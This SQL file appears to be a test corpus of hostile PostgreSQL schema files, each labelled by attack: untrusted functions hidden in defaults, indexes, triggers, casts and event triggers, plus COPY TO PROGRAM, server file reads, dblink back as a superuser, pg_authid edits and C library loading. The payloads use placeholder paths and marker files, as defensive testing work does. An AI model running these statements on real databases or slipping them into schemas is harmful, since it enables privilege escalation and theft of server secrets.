-- What every attack finds ready, and the attacks by their names: each is a schema file of its own, behind the first.

-- # what they share
create table loot (what text);
create function evil() returns int language plpgsql as $$ begin
  begin
    copy (select 1) to program 'cat > <marker>';
  exception when insufficient_privilege then null; end;
  begin
    execute $x$ copy loot from '<secret>' $x$;
  exception when insufficient_privilege then null; end;
  insert into loot select 'superuser' from pg_roles where rolname = current_user and rolsuper;
  return 1;
end $$;
-- PostgreSQL believes what it is told of a function, and asks it where it asks no other.
create function trusted(int) returns int language plpgsql immutable as $$ begin perform evil(); return $1; end $$;
create function yes(text) returns boolean language plpgsql immutable as $$ begin perform evil(); return true; end $$;
create function hook() returns event_trigger language plpgsql as $$ begin perform evil(); end $$;
create function fires() returns trigger language plpgsql as $$ begin perform evil(); return new; end $$;

-- # a query
create table t as select evil();

-- # a default for a row that is there
create table t (a int);
insert into t values (1);
alter table t add column b int default evil();

-- # a generated column
create table t (a int, b int generated always as (trusted(a)) stored);
insert into t values (1);

-- # a check of rows
create table t (a int);
insert into t values (1);
alter table t add check (trusted(a) = a);

-- # a check of no row
create table t (a int);
alter table t add check (trusted(1) = a);

-- # an index over an expression
create table t (a int);
insert into t values (1);
create index on t (trusted(a));

-- # an index that the planner folds
create table t (a int);
create index on t ((a + trusted(1)));
alter table t add primary key (a);
create table u (a int references t);

-- # a predicate
create table t (a int);
insert into t values (1);
create index on t (a) where trusted(a) = 1;

-- # a key of partitions
create table t (a int) partition by range ((a + trusted(1)));
create table t1 partition of t for values from (0) to (9);
insert into t values (1);

-- # a bound of a partition
create table t (a int) partition by range (a);
create table t1 partition of t for values from (trusted(0)) to (9);

-- # an exclusion
create table t (a int, exclude using btree ((trusted(a)) with =));
insert into t values (1);

-- # statistics
create table t (a int);
insert into t values (1);
create statistics s on (trusted(a)) from t;
analyze t;

-- # a domain in a constant
create domain d as text check (yes(value));
create table t (a d[] default '{x}');

-- # a domain in a column's default
create domain d as text check (yes(value));
create table t (a int);
insert into t values (1);
alter table t add b d default 'x';

-- # a domain in a row filter
create domain d as text check (yes(value));
create table t (a d[]);
create publication p for tables in schema public, table t where (a = '{x}'::d[]);

-- # a domain in an argument's default of native code
create domain d as text check (yes(value));
create function f(a d[] default '{x}') returns int language c as '$libdir/hstore', 'hstore_in';

-- # a view
create view v as select evil();
select * from v;

-- # a materialized view
create materialized view v as select evil();

-- # a rule
create table t (a int);
create rule r as on insert to t do also select evil();
insert into t values (1);

-- # a trigger
create table t (a int);
create trigger g before insert on t for each row execute function fires();
insert into t values (1);

-- # a policy
create table t (a int);
insert into t values (1);
alter table t enable row level security;
alter table t force row level security;
create policy p on t using (evil() = 1);
create table u as select * from t;

-- # an operator
create function same(int, text) returns bool language sql as 'select evil() = 1';
create operator === (leftarg = int, rightarg = text, function = same);
create table t as select 1 === 'x'::text;

-- # a cast
create type c as (a int);
create function to_c(int) returns c language sql as 'select row(evil())::c';
create cast (int as c) with function to_c(int) as implicit;
create table t as select 1::c;

-- # a cast that the catalog's readers use
create function txt(oid) returns text language sql as 'select evil()::text';
create cast (oid as text) with function txt(oid) as implicit;

-- # an aggregate
create function add(int, int) returns int language sql as 'select evil()';
create aggregate a (int) (sfunc = add, stype = int, initcond = '1');
create table t as select a(1);

-- # an aggregate's beginning
create domain d as text check (yes(value));
create function add(internal, int) returns internal language internal as 'int8_avg_accum';
create aggregate a (int) (sfunc = add, stype = internal, msfunc = add, minvfunc = add, mstype = d, minitcond = 'x');

-- # an event trigger
create event trigger e on ddl_command_start execute function hook();
create table t (a int);

-- # an event trigger and an extension
create event trigger e on ddl_command_start execute function hook();
create extension hstore;

-- # an event trigger and an extension of superusers
create event trigger e on ddl_command_end execute function hook();
create extension earthdistance cascade;

-- # an event trigger and an extension in a block
create event trigger e on ddl_command_end execute function hook();
do $$ begin create extension hstore; exception when insufficient_privilege then null; end $$;

-- # an event trigger and an owner
create role other;
create table t (a int);
create event trigger e on ddl_command_end execute function hook();
alter table t owner to other;
create event trigger f on ddl_command_end execute function hook();
alter event trigger e enable always;
alter event trigger e owner to boss;

-- # an event trigger at the end
create event trigger e on sql_drop execute function hook();

-- # an event trigger of what is rewritten
create event trigger e on table_rewrite execute function hook();
create table t (a int);
insert into t values (1);
alter table t alter a type bigint;

-- # an event trigger that is always on
create event trigger e on ddl_command_end execute function hook();
alter event trigger e enable always;
create foreign data wrapper w;
create extension hstore;

-- # a validator
create function v(text[], oid) returns void language sql as 'select evil()';
create foreign data wrapper w validator v options (a 'b');
alter foreign data wrapper w options (set a 'c');
create server s foreign data wrapper w options (a 'b');
create user mapping for public server s options (a 'b');
create foreign table t (a int) server s options (a 'b');
alter foreign table t options (set a 'c');

-- # a program as a table
create extension file_fdw;
create server s foreign data wrapper file_fdw;
create foreign table t (a text) server s options (program 'cat > <marker>; echo 1');
insert into loot select a from t;

-- # a file as a table
create extension file_fdw;
create server s foreign data wrapper file_fdw;
create foreign table t (a text) server s options (filename '<secret>');
insert into loot select a from t;

-- # a file as a table by a wrapper of its own
create extension file_fdw;
create foreign data wrapper w handler file_fdw_handler;
create server s foreign data wrapper w;
create foreign table t (a text) server s options (filename '<secret>');
insert into loot select a from t;

-- # a file as a table by a handler of its own
create function h() returns fdw_handler language c as '$libdir/file_fdw', 'file_fdw_handler';
create foreign data wrapper w handler h;
create server s foreign data wrapper w;
create foreign table t (a text) server s options (filename '<secret>');
insert into loot select a from t;

-- # a foreign table on the live database
create extension postgres_fdw;
create server s foreign data wrapper postgres_fdw options (host '<host>', port '<port>', dbname 'postgres');
create user mapping for public server s options (user '<user>', password_required 'false');
create foreign table t (rolname text) server s options (schema_name 'pg_catalog', table_name 'pg_authid');
insert into loot select '<secret_text>' from t;

-- # dblink to the live database
create extension dblink;
insert into loot select '<secret_text>' from dblink('host=<host> port=<port> dbname=postgres user=<user>', 'select 1')
  as t (a int);

-- # dblink without a password
create extension dblink;
do $$ begin perform dblink_connect_u('x', 'host=<host> port=<port> dbname=postgres user=<user>'); insert into loot values ('<secret_text>'); end $$;

-- # dblink back as the server's superuser
create extension dblink;
do $$ begin perform dblink_connect_u('x', 'host=' || current_setting('unix_socket_directories') || ' port=5432 user=dbsync_scratch_superuser dbname=postgres'); insert into loot values ('<secret_text>'); end $$;

-- # dblink of another library
create function c(text, text) returns text language c as '$libdir/dblink', 'dblink_connect';
select c('x', 'host=<host> port=<port> dbname=postgres user=<user>');

-- # a subscription
create subscription s connection 'host=<host> port=<port> dbname=postgres user=<user>' publication p;
alter subscription s refresh publication;

-- # a built-in function of superusers
create function f(text) returns text language internal as 'pg_read_file_all';
insert into loot select f('<secret>');

-- # a built-in function with another signature
create function f(int) returns text language internal as 'textout';
insert into loot select f(1);

-- # large objects from a file
create function f(text) returns oid language internal as 'be_lo_import';
select f('<secret>');
insert into loot select convert_from(lo_get(oid), 'UTF8') from pg_largeobject_metadata;

-- # large objects into a file
select lo_from_bytea(7, 'x');
select lo_export(7, '<marker>');

-- # the right to a built-in function
grant execute on function pg_catalog.lo_export(oid, text) to public;
select lo_from_bytea(7, 'x');
select lo_export(7, '<marker>');

-- # the right to all of them
grant execute on all functions in schema pg_catalog to public;
select lo_from_bytea(7, 'x');
select lo_export(7, '<marker>');

-- # a built-in function as its owner
alter function pg_catalog.lo_export(oid, text) owner to current_user;
select lo_from_bytea(7, 'x');
select lo_export(7, '<marker>');

-- # an extension's function with its owner's rights
create extension tablefunc;
alter function crosstab(text) security definer;
do $$ begin perform * from crosstab('select evil()::text, ''a''::text, ''b''::text') as c(a text, b text); exception when others then null; end $$;

-- # a function of the server's superuser
create function up() returns int language sql security definer as 'select evil()';
alter function up() owner to dbsync_scratch_superuser;
select up();

-- # a view of the server's superuser
create view v as select evil();
alter view v owner to dbsync_scratch_superuser;
select * from v;

-- # a function of a live superuser
create function up() returns int language sql security definer as 'select evil()';
alter function up() owner to other_boss;
select up();

-- # a schema of PostgreSQL's
grant create on schema pg_catalog to public;
create function pg_catalog.lower(oid) returns text language sql as 'select evil()::text';

-- # a schema of PostgreSQL's as its owner
alter schema pg_catalog owner to current_user;
create function pg_catalog.lower(oid) returns text language sql as 'select evil()::text';

-- # a function in a schema of PostgreSQL's
create function pg_catalog.replace(text, unknown, unknown) returns text language sql leakproof as 'select
  evil()::text';

-- # native code in a schema of PostgreSQL's
create function pg_catalog.lower(oid) returns text language internal as 'textout';

-- # a language of everybody's
create or replace trusted language c handler plpgsql_call_handler;
create function f(text) returns int language c as '<library>', 'attack';
select f('<marker>');

-- # a library
create function f(text) returns int language c as '<library>', 'attack';
select f('<marker>');

-- # a library in a type
create type x;
create function x_in(cstring) returns x language c as '<library>', 'attack';
create function x_out(x) returns cstring language c as '<library>', 'attack';
create type x (input = x_in, output = x_out);
create table t (a x default '<marker>');

-- # a library in an index
create function f(int, int) returns int language c as '<library>', 'attack';
create operator class o for type int using btree as operator 1 <, operator 2 <=, operator 3 =, operator 4 >=, operator
  5 >, function 1 f(int, int);
create table t (a int);
insert into t values (1), (2);
create index on t (a o);

-- # a library as a language
create function h() returns language_handler language c as '<library>', 'attack';
create language x handler h;
create function f() returns int language x as 'x';
select f();

-- # a library as a part of an extension
create extension hstore;
create function f(text) returns int language c as '<library>', 'attack';
alter extension hstore add function f(text);
create function g(text) returns int language c as '<library>', 'attack';
select f('<marker>');

-- # a library as an estimator
create function e(internal, oid, internal, int) returns float8 language c as '<library>', 'attack';
create function same(int, text) returns bool language sql as 'select true';
create operator === (leftarg = int, rightarg = text, function = same, restrict = e);
create table t (a int);
insert into t values (1);
create table u as select * from t where a === 'x'::text;

-- # a library by LOAD
do $$ begin load '<library>'; end $$;

-- # a library for the session
set local_preload_libraries = '<library>';
set dynamic_library_path = '<folder>';
create function f() returns int language c as 'attack', 'attack';
select f();

-- # a program in a block
do $$ begin copy (select 1) to program 'cat > <marker>'; end $$;

-- # a file in a block
do $$ begin copy loot from '<secret>'; end $$;

-- # a file of the server's
insert into loot select pg_read_file('<secret>');

-- # ALTER SYSTEM in a block
do $$ begin execute 'alter system set archive_command = ''touch <marker>'''; end $$;

-- # a right in a block
do $$ begin execute format('grant pg_execute_server_program to %I', current_user); copy (select 1) to program 'cat > <marker>'; end $$;

-- # a right by a role of its own
do $$ begin create role r in role pg_execute_server_program; execute format('grant r to %I', current_user); set role r; copy (select 1) to program 'cat > <marker>'; end $$;

-- # a superuser in a block
do $$ begin create role r superuser; end $$;

-- # itself a superuser
do $$ begin execute format('alter role %I superuser', current_user); end $$;
select evil();

-- # another role
set role dbsync_scratch_superuser;
select evil();

-- # another session
set session authorization dbsync_scratch_superuser;
select evil();

-- # no role
reset role;
reset session authorization;
select evil();

-- # a search path of the database
create schema bad;
create function bad.same(int, int) returns bool language sql as 'select public.evil() = 1';
create operator bad.= (leftarg = int, rightarg = int, function = bad.same);
do $$ begin execute format('alter database %I set search_path = bad, public, pg_catalog', current_database()); end $$;

-- # the catalog itself
do $$ begin update pg_authid set rolsuper = true; end $$;
select evil();

-- # the catalog by a right
grant all on pg_catalog.pg_authid, pg_catalog.pg_proc to public;
do $$ begin update pg_authid set rolsuper = true; end $$;
select evil();

-- # an operator family of PostgreSQL's
create function cmp(int, text) returns int language sql immutable as 'select trusted(0)';
create function eq(int, text) returns bool language sql immutable as 'select trusted(1) = 1';
create operator === (leftarg = int, rightarg = text, function = eq);
alter operator family pg_catalog.integer_ops using btree add operator 3 === (int, text), function 1 (int, text)
  cmp(int, text);

-- # a foreign schema
create extension postgres_fdw;
create server s foreign data wrapper postgres_fdw options (host '<host>', port '<port>');
import foreign schema pg_catalog from server s into public;

-- # a function that an extension's script finds
create function text2ltree(text) returns text language sql as 'select evil()::text';
create extension bloom;
create extension amcheck;

-- # a tablespace
do $$ begin execute 'create tablespace x location ''/tmp'''; end $$;

-- # another name for a built-in function
alter function pg_catalog.query_to_xml(text, boolean, boolean, text) rename to pg_get_expr;

-- # an operator that fits better than PostgreSQL's own
create function below(oid, int) returns bool language sql as 'select evil() = 1';
create function same(oid, int) returns bool language sql as 'select evil() = 1';
create function same(name, text) returns bool language sql as 'select evil() = 1';
create operator < (leftarg = oid, rightarg = int, function = below);
create operator >= (leftarg = oid, rightarg = int, function = below);
create operator <> (leftarg = oid, rightarg = int, function = same);
create operator = (leftarg = oid, rightarg = int, function = same);
create operator = (leftarg = name, rightarg = text, function = same);
create event trigger e on ddl_command_end execute function hook();
create function native(int) returns int language c as '$libdir/hstore', 'hstore_in';
create extension file_fdw;
create foreign data wrapper w options (a 'b');
alter function native(int) owner to other_boss;

-- # an operator before PostgreSQL's own
create schema bad;
create function bad.same(oid, oid) returns bool language sql as 'select public.evil() = 1';
create operator bad.= (leftarg = oid, rightarg = oid, function = bad.same);
create operator bad.<> (leftarg = oid, rightarg = oid, function = bad.same);
set search_path = bad, public, pg_catalog;
create event trigger e on ddl_command_end execute function hook();
create function native(int) returns int language c as '$libdir/hstore', 'hstore_in';
create extension file_fdw;

-- # the last of several owners
create table t (a int);
create index on t ((a + trusted(1)));
alter table t owner to other_boss, owner to dbsync_scratch_superuser;
analyze t;
